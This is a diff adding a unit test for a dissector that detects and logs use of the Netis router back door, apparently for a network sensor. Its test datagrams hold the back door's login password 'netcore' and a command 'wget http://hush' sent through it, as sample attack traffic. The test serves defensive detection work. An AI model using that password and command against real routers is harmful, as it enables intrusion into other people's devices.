@@ -1,8 +1,9 @@
 /* SPDX-License-Identifier: ISC */
-/* NAT-PMP, the character generator, Cassandra among its nodes. */
+/* NAT-PMP, the character generator, Cassandra among its nodes, Netis' back door. */
 #include "tests/unit/datagrams.h"
 
-extern const struct dissector natpmp_dissector, chargen_dissector, cassandra_internode_dissector;
+extern const struct dissector natpmp_dissector, chargen_dissector, cassandra_internode_dissector,
+	netis_dissector;
 
 static void test_natpmp(void **state)
 {
@@ -87,12 +88,45 @@ static void test_cassandra(void **state)
 	assert_false(dissect(&cassandra_internode_dissector, other, 2, 0, &facts));
 }
 
+static void test_netis(void **state)
+{
+	static const struct turn turns[] = {
+		TURN_CLIENT("AAAAAAAAnetcore\0"),
+		TURN_SERVER("AA\0\5ABAA\0\0\0\0Login successed!\r\n"),
+		TURN_CLIENT("AA\0\0AAAA wget http://hush\0"),
+		TURN_SERVER("AA\0\6ABAA\0\0\0\0"),
+	};
+	static const struct turn name[] = {
+		TURN_CLIENT("\0\0\0\0\0\0\0\0"),
+		TURN_SERVER("\0\0\0\5\0\1\0\0\0\0\1\0IGD MPT Interface daemon 1.0\0"),
+	};
+	static const struct turn other[] = {
+		TURN_CLIENT("BAAAAAAAnetcore\0"),
+		TURN_SERVER("AA\0\5ABAA\0\0\0\0Login successed!\r\n"),
+	};
+	struct facts facts = datagrams_facts(&netis_dissector, turns, 4, "netis-backdoor");
+
+	(void)state;
+	assert_string_equal(facts.service->identifier, "open-netis");
+	assert_int_equal(facts.auth, AUTH_SUCCEEDED);
+	assert_int_equal(facts.command_count, 1);
+	conversation_has(&facts, "COMMAND", ANSWER_YES, 0);
+	conversation_lacks(&facts, "hush");
+	conversation_lacks(&facts, "netcore");
+	facts = datagrams_facts(&netis_dissector, name, 2, "netis-backdoor");
+	assert_int_equal(facts.auth, AUTH_NA);
+	datagrams_facts(&netis_dissector, name + 1, 1, "netis-backdoor");
+	assert_false(dissect_over(&netis_dissector, OVER_UDP, other, 2, 0, &facts));
+	assert_int_equal(dissect_verdict(&netis_dissector, OVER_UDP, turns, 1, 0), PROBE_MORE);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_natpmp),
 		cmocka_unit_test(test_chargen),
 		cmocka_unit_test(test_cassandra),
+		cmocka_unit_test(test_netis),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
